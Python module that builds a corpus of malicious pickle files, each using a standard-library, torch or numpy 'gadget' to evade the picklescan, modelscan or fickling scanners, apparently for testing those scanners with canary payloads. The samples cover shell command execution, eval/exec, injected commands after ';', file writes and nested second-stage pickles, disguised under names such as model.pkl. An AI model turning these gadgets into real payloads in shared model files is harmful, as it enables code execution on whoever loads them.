"""One malicious pickle per published scanner bypass that relies on a "gadget".

A gadget is a standard-library or framework function that executes code, runs a command or unpickles
a second stage but was missing from picklescan's, modelscan's or fickling's deny lists at the time.

Each entry names the advisory that disclosed it. Arguments are chosen so that the call really runs
on this interpreter: where a gadget is an unbound method, ``self`` is a real instance or a
``types.SimpleNamespace`` carrying exactly the attributes the method touches.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable

from ._payload import OS_SYSTEM, os_system, program
from ._pickle_asm import Asm, Build, Call, Global, Node
from ._registry import Canary, sample


def ns(**attrs: Node) -> Build:
    """A ``types.SimpleNamespace`` with ``attrs``, built by REDUCE then BUILD."""
    return Build(Call(Global("types", "SimpleNamespace"), ()), dict(attrs))


def new(module: str, cls: str) -> Call:
    """``module.cls()``."""
    return Call(Global(module, cls), ())


_FILENAMES = (
    "model.pkl",
    "classifier.pkl",
    "vectorizer.pickle",
    "preprocessor.pkl",
    "weights.pkl",
    "tokenizer.pkl",
    "scaler.pkl",
    "pipeline.pickle",
    "label_encoder.pkl",
    "regressor.pkl",
    "policy.pkl",
    "reward_model.pkl",
)
_next_filename = itertools.cycle(_FILENAMES).__next__


def gadget(
    name: str,
    target: str,
    args: Callable[[Canary], tuple[Node, ...]],
    *,
    advisory: str | None,
    description: str,
    filename: str | None = None,
    requires: tuple[str, ...] = (),
    proto: int = 4,
) -> None:
    """Register ``module:qualname(*args(canary))`` as a sample (dotted qualnames need protocol 4)."""
    module, qualname = target.split(":")
    default_name = _next_filename()

    @sample(
        name,
        technique=f"gadget:{module}.{qualname}",
        container="pickle",
        filename=filename or default_name,
        advisory=advisory,
        requires=requires,
        description=description,
    )
    def _build(c: Canary) -> bytes:
        return program(proto, Call(Global(module, qualname), args(c)))


_TORCH = ("torch",)

# -- picklescan advisories -------------------------------------------------------------------------

gadget(
    "pip_main_log_file",
    "pip:main",
    lambda c: (["--log", c.file, "list", "--disable-pip-version-check"],),
    advisory="GHSA-655q-fx9r-782v",
    requires=("pip",),
    description="pip.main(argv) (CVE-2025-1716); an attacker installs a package, the sample only makes "
    "pip open its --log file at the canary path.",
)
gadget(
    "asyncio_unix_subprocess_start",
    "asyncio.unix_events:_UnixSubprocessTransport._start",
    lambda c: (ns(), c.sh, True, None, None, None, 0),
    advisory="GHSA-f7qq-56ww-84cr",
    description="asyncio.unix_events._UnixSubprocessTransport._start spawns subprocess.Popen(shell=True); "
    "a submodule of the deny-listed asyncio that exact-match deny lists missed (CVE-2025-10157, also "
    "GHSA-q77w-mwjj-7mqx).",
)
gadget(
    "torch_shapeenv_evaluate_guards",
    "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
    lambda c: (ns(), c.py, []),
    advisory="GHSA-f4x7-rfwp-v3xw",
    requires=_TORCH,
    description="ShapeEnv.evaluate_guards_expression(self, code, args) calls eval(code).",
)
gadget(
    "torch_collect_env_run",
    "torch.utils.collect_env:run",
    lambda c: (c.sh,),
    advisory="GHSA-f745-w6jp-hpxx",
    requires=_TORCH,
    description="torch.utils.collect_env.run(command) runs a shell command with subprocess.Popen.",
)
gadget(
    "torch_collect_env_run_and_read_all",
    "torch.utils.collect_env:run_and_read_all",
    lambda c: (Global("torch.utils.collect_env", "run"), c.sh),
    advisory="GHSA-jhph-76pp-mggw",
    requires=_TORCH,
    description="collect_env.run_and_read_all(run_lambda, command) with collect_env.run as the callable.",
)
gadget(
    "torch_datapipes_basichandlers",
    "torch.utils.data.datapipes.utils.decoder:basichandlers",
    lambda c: ("pickle", os_system(c, 2)),
    advisory="GHSA-h3qp-7fh3-f8h4",
    requires=_TORCH,
    description="decoder.basichandlers('pickle', data) calls pickle.loads on a second-stage pickle.",
)
gadget(
    "torch_jit_execwrapper",
    "torch.jit.unsupported_tensor_ops:execWrapper",
    lambda c: (c.py, {}, {}),
    advisory="GHSA-vr7h-p6mm-wpmh",
    requires=_TORCH,
    description="torch.jit.unsupported_tensor_ops.execWrapper(code, glob, loc) is exec.",
)
gadget(
    "torch_config_module_load_config",
    "torch.utils._config_module:ConfigModule.load_config",
    lambda c: (ns(), os_system(c, 2)),
    advisory="GHSA-vv6j-3g6g-2pvj",
    requires=_TORCH,
    description="ConfigModule.load_config(self, blob) calls pickle.loads on non-dict input: a pickle "
    "inside the pickle.",
)
gadget(
    "trace_trace_run",
    "trace:Trace.run",
    lambda c: (new("trace", "Trace"), c.py),
    advisory="GHSA-5qwp-399c-mjwf",
    description="trace.Trace().run(cmd) execs cmd in __main__'s namespace.",
)
gadget(
    "trace_trace_runctx",
    "trace:Trace.runctx",
    lambda c: (new("trace", "Trace"), c.py, {}, {}),
    advisory="GHSA-g344-hcph-8vgg",
    description="trace.Trace().runctx(cmd, globals, locals).",
)
gadget(
    "profile_profile_run",
    "profile:Profile.run",
    lambda c: (new("profile", "Profile"), c.py),
    advisory="GHSA-x696-vm39-cp64",
    description="profile.Profile().run(cmd) execs cmd under the profiler.",
)
gadget(
    "profile_profile_runctx",
    "profile:Profile.runctx",
    lambda c: (new("profile", "Profile"), c.py, {}, {}),
    advisory="GHSA-6vqj-c2q5-j97w",
    description="profile.Profile().runctx(cmd, globals, locals).",
)
gadget(
    "profile_run_module_function",
    "profile:run",
    lambda c: (c.py,),
    advisory="GHSA-7wx9-6375-f5wh",
    description="Module-level profile.run(statement); deny lists had only Profile.run (picklescan < 1.0.4).",
)
gadget(
    "lib2to3_grammar_loads",
    "lib2to3.pgen2.grammar:Grammar.loads",
    lambda c: (new("lib2to3.pgen2.grammar", "Grammar"), os_system(c, 2)),
    advisory="GHSA-f54q-57x4-jg88",
    description="lib2to3 Grammar.loads(pkl) unpickles a second stage.",
)
gadget(
    "ensurepip_run_pip",
    "ensurepip:_run_pip",
    lambda c: (c.py,),
    advisory="GHSA-xp4f-hrf8-rxw7",
    description="ensurepip._run_pip(args) formats args into the source of a child 'python -c': a string "
    "argument is Python code that runs in the child.",
)
gadget(
    "lib2to3_make_label_eval",
    "lib2to3.pgen2.pgen:ParserGenerator.make_label",
    lambda c: (None, ns(labels=[], keywords={}), '"" + str(' + c.py + ")"),
    advisory="GHSA-p9w7-82w4-7q8m",
    description="ParserGenerator.make_label(self, c, label) evals a quoted label.",
)
gadget(
    "idlelib_objecttreeitem_settext",
    "idlelib.debugobj:ObjectTreeItem.SetText",
    lambda c: (ns(), c.py),
    advisory="GHSA-3vg9-h568-4w9m",
    description="idlelib ObjectTreeItem.SetText(self, text) evals text.",
)
gadget(
    "idlelib_autocomplete_get_entity",
    "idlelib.autocomplete:AutoComplete.get_entity",
    lambda c: (ns(), c.py),
    advisory="GHSA-6w4w-5w54-rjvr",
    description="idlelib AutoComplete.get_entity(self, name) evals name.",
)
gadget(
    "idlelib_autocomplete_fetch_completions",
    "idlelib.autocomplete:AutoComplete.fetch_completions",
    lambda c: (ns(get_entity=Global("idlelib.calltip", "get_entity")), c.py, 0),
    advisory="GHSA-7cq8-mj8x-j263",
    description="AutoComplete.fetch_completions(self, what, ATTRS) evaluates 'what' via get_entity.",
)
gadget(
    "code_interactive_runcode",
    "code:InteractiveInterpreter.runcode",
    lambda c: (new("code", "InteractiveInterpreter"), c.py),
    advisory="GHSA-cj3c-v495-4xqh",
    description="code.InteractiveInterpreter().runcode(source) execs it.",
)
gadget(
    "idlelib_calltip_fetch_tip",
    "idlelib.calltip:Calltip.fetch_tip",
    lambda c: (ns(), c.py),
    advisory="GHSA-8r4j-24qv-fmq9",
    description="idlelib Calltip.fetch_tip(self, expression) evals the expression.",
)
gadget(
    "idlelib_calltip_get_entity",
    "idlelib.calltip:get_entity",
    lambda c: (c.py,),
    advisory="GHSA-9xph-j2h6-g47v",
    description="idlelib.calltip.get_entity(expression) evals the expression.",
)
gadget(
    "idlelib_run_executive_runcode",
    "idlelib.run:Executive.runcode",
    lambda c: (ns(locals={}), c.py),
    advisory="GHSA-m869-42cg-3xwr",
    description="idlelib.run.Executive.runcode(self, code) execs code in self.locals.",
)
gadget(
    "idlelib_pyshell_runcommand",
    "idlelib.pyshell:ModifiedInterpreter.runcommand",
    lambda c: (ns(tkconsole=ns(executing=False), rpcclt=None, locals={}), c.py),
    advisory="GHSA-j343-8v2j-ff7w",
    requires=("tkinter",),
    description="idlelib.pyshell.ModifiedInterpreter.runcommand(self, code) execs code when no RPC "
    "client is attached (needs tkinter to import idlelib.pyshell).",
)
gadget(
    "doctest_debug_script",
    "doctest:debug_script",
    lambda c: (c.py, True),
    advisory="GHSA-fqq6-7vqf-w3fg",
    description="doctest.debug_script(src, pm=True) execs src before any debugger starts.",
)
gadget(
    "cprofile_runctx",
    "cProfile:runctx",
    lambda c: (c.py, None, None),
    advisory="GHSA-9w88-8rmg-7g2p",
    description="cProfile.runctx(statement, None, None) execs the statement.",
)
gadget(
    "cprofile_run",
    "cProfile:run",
    lambda c: (c.py,),
    advisory="GHSA-49gj-c84q-6qm9",
    description="cProfile.run(statement) execs the statement.",
)
gadget(
    "distutils_write_file",
    "distutils.file_util:write_file",
    lambda c: (c.file, ["harmless"]),
    advisory="GHSA-m273-6v24-x4m4",
    requires=("distutils",),
    description="distutils.file_util.write_file(path, lines): arbitrary file write (Python <= 3.11).",
)
gadget(
    "pty_spawn_argv",
    "pty:spawn",
    lambda c: (c.argv,),
    advisory="GHSA-hgrh-qx5j-jfwx",
    description="pty.spawn(argv) forks and execs argv on a pseudo-terminal (also GHSA-vqmv-47xg-9wpr "
    "and fickling GHSA-r7v6-mfhq-g3m2).",
)
gadget(
    "numpy_f2py_getlincoef",
    "numpy.f2py.crackfortran:getlincoef",
    lambda c: (c.py, []),
    advisory="GHSA-rrxm-2pvv-m66x",
    requires=("numpy",),
    description="numpy.f2py.crackfortran.getlincoef(e, xset) evals e (also GHSA-r8g5-cgf2-4m4m).",
)
gadget(
    "numpy_f2py_eval_length",
    "numpy.f2py.crackfortran:_eval_length",
    lambda c: (c.py, {}),
    advisory="GHSA-6556-fwc2-fg2p",
    requires=("numpy",),
    description="numpy.f2py.crackfortran._eval_length(length, params) evals the length expression.",
)
gadget(
    "numpy_f2py_myeval",
    "numpy.f2py.crackfortran:myeval",
    lambda c: (c.py,),
    advisory="GHSA-3329-ghmp-jmv5",
    requires=("numpy",),
    description="numpy.f2py.crackfortran.myeval(e) is eval.",
)
gadget(
    "numpy_f2py_param_eval",
    "numpy.f2py.crackfortran:param_eval",
    lambda c: (c.py, {}, {}),
    advisory="GHSA-cffc-mxrf-mhh4",
    requires=("numpy",),
    description="numpy.f2py.crackfortran.param_eval(v, g_params, params) evals v.",
)
gadget(
    "uuid_get_command_stdout",
    "uuid:_get_command_stdout",
    lambda c: ("touch", c.file),
    advisory="GHSA-g38g-8gr9-h9xp",
    description="uuid._get_command_stdout(cmd, *args) runs subprocess.Popen((which(cmd),) + args).",
)
gadget(
    "osx_support_read_output",
    "_osx_support:_read_output",
    lambda c: (c.sh,),
    advisory="GHSA-5hwf-rc88-82xm",
    description="_osx_support._read_output(commandstring) runs os.system on it; importable on every "
    "platform despite the name (fickling < 0.1.9).",
)
gadget(
    "osx_support_find_build_tool",
    "_osx_support:_find_build_tool",
    lambda c: ("clang; " + c.sh,),
    advisory="GHSA-g38g-8gr9-h9xp",
    description="_osx_support._find_build_tool(toolname) interpolates toolname into an os.system "
    "command line: shell injection after ';'.",
)
gadget(
    "imaplib_imap4_stream",
    "imaplib:IMAP4_stream",
    lambda c: (c.sh,),
    advisory="GHSA-g38g-8gr9-h9xp",
    description="imaplib.IMAP4_stream(command) starts subprocess.Popen(command, shell=True), then fails "
    "to read an IMAP greeting.",
)
gadget(
    "script_helper_assert_python_ok",
    "test.support.script_helper:assert_python_ok",
    lambda c: ("-c", c.py),
    advisory="GHSA-g38g-8gr9-h9xp",
    requires=("test.support.script_helper",),
    description="test.support.script_helper.assert_python_ok(*args) spawns a Python interpreter.",
)
gadget(
    "pydoc_pipepager",
    "pydoc:pipepager",
    lambda c: ("", c.sh),
    advisory=None,
    description="pydoc.pipepager(text, cmd) runs cmd through the shell (picklescan's test corpus).",
)
gadget(
    "timeit_setup_exec",
    "timeit:timeit",
    lambda c: ("pass", c.py),
    advisory="GHSA-v7x6-rv5q-mhwc",
    description="timeit.timeit(stmt, setup) compiles and runs setup once.",
)
gadget(
    "numpy_testing_runstring",
    "numpy.testing._private.utils:runstring",
    lambda c: (c.py, {}),
    advisory=None,
    requires=("numpy",),
    description="numpy.testing._private.utils.runstring(astr, dict) is exec (picklescan's test corpus).",
)
gadget(
    "runpy_run_code",
    "runpy:_run_code",
    lambda c: (c.py, {}),
    advisory=None,
    description="runpy._run_code(code, run_globals) execs code; fickling's GHSA-wfq2-52f7-7qvj covered "
    "its public siblings run_path/run_module.",
)
gadget(
    "bdb_bdb_run",
    "bdb:Bdb.run",
    lambda c: (new("bdb", "Bdb"), c.py),
    advisory=None,
    description="bdb.Bdb().run(cmd) execs cmd under the tracing debugger base class.",
)
gadget(
    "venv_create_dir",
    "venv:create",
    lambda c: (c.file, False, False, True),
    advisory=None,
    description="venv.create(path, ..., symlinks=True) builds a virtual environment at the canary path "
    "(a directory); the attack variant passes a shell-expanded prompt or installs pip.",
)
gadget(
    "mailcap_findmatch_test",
    "mailcap:findmatch",
    lambda c: ({"text/plain": [{"view": "cat %s", "test": c.sh}]}, "text/plain"),
    advisory=None,
    description="mailcap.findmatch runs each entry's 'test' command with os.system (protectai/modelscan "
    "pull request 346).",
)
gadget(
    "atexit_register_system",
    "atexit:register",
    lambda c: (OS_SYSTEM, c.sh),
    advisory="GHSA-m6fh-58r7-x697",
    description="atexit.register(os.system, cmd): nothing happens during the load, the command runs when "
    "the interpreter exits.",
)
gadget(
    "multiprocessing_spawnv_passfds",
    "multiprocessing.util:spawnv_passfds",
    lambda c: (b"/bin/sh", [b"/bin/sh", b"-c", c.sh.encode()], []),
    advisory="GHSA-q5qq-mvfm-j35x",
    description="multiprocessing.util.spawnv_passfds(path, args, fds) fork-execs /bin/sh -c cmd.",
)
gadget(
    "logging_filehandler_create",
    "logging:FileHandler",
    lambda c: (c.file,),
    advisory="CVE-2026-56304",
    description="logging.FileHandler(path) opens (creates) the file on construction (picklescan < 1.0.1).",
)
gadget(
    "io_fileio_create",
    "_io:FileIO",
    lambda c: (c.file, "w"),
    advisory=None,
    description="_io.FileIO(path, 'w') creates or truncates any file (picklescan and fickling test corpora).",
)
gadget(
    "shutil_copyfile_write",
    "shutil:copyfile",
    lambda c: ("/dev/null", c.file),
    advisory=None,
    description="shutil.copyfile(src, dst): arbitrary file write, here an empty copy of /dev/null.",
)


@sample(
    "xxsubinterpreters_run_string",
    technique="gadget:_xxsubinterpreters.run_string",
    container="pickle",
    filename="subinterp.pkl",
    advisory="GHSA-6ggj-6f2q-f7mx",
    requires=("_xxsubinterpreters",),
    description="_xxsubinterpreters.run_string(_xxsubinterpreters.create(), source) runs source in a fresh "
    "subinterpreter (the module is _interpreters on Python >= 3.13).",
)
def _subinterp(c: Canary) -> bytes:
    interp = Call(Global("_xxsubinterpreters", "create"), ())
    return program(4, Call(Global("_xxsubinterpreters", "run_string"), (interp, c.py)))


@sample(
    "cprofile_run_fickling_shape",
    technique="gadget:cProfile.run",
    container="pickle",
    filename="profiled.pkl",
    advisory="GHSA-p523-jq9w-64x9",
    description="cProfile.run in the exact opcode shape of the fickling report: protocol 5, one FRAME, "
    "MEMOIZE after every push (fickling < 0.1.7).",
)
def _cprofile_fickling(c: Canary) -> bytes:
    a = Asm(5).str_("cProfile").memoize().str_("run").memoize().stack_global().memoize()
    a.str_(c.py).memoize().tuple_n(1).memoize().reduce().memoize()
    return a.program(frames=True)


@sample(
    "numpy_builtins_dict_get",
    technique="dotted:module-__builtins__",
    container="pickle",
    filename="numpy_allowlist.pkl",
    advisory=None,
    requires=("numpy",),
    description="Only a numpy global: numpy.__builtins__ is the builtins dict, so the protocol-4 dotted "
    "name numpy/__builtins__.get is dict.get, and get('eval') returns builtins.eval (the 'numpy allow "
    "list' idea of protectai/modelscan issue 330, whose numpy.size variant needs numpy < 2).",
)
def _np_builtins(c: Canary) -> bytes:
    get = Call(Global("numpy", "__builtins__.get"), ("eval",))
    return program(4, Call(get, (c.py,)), frames=True)
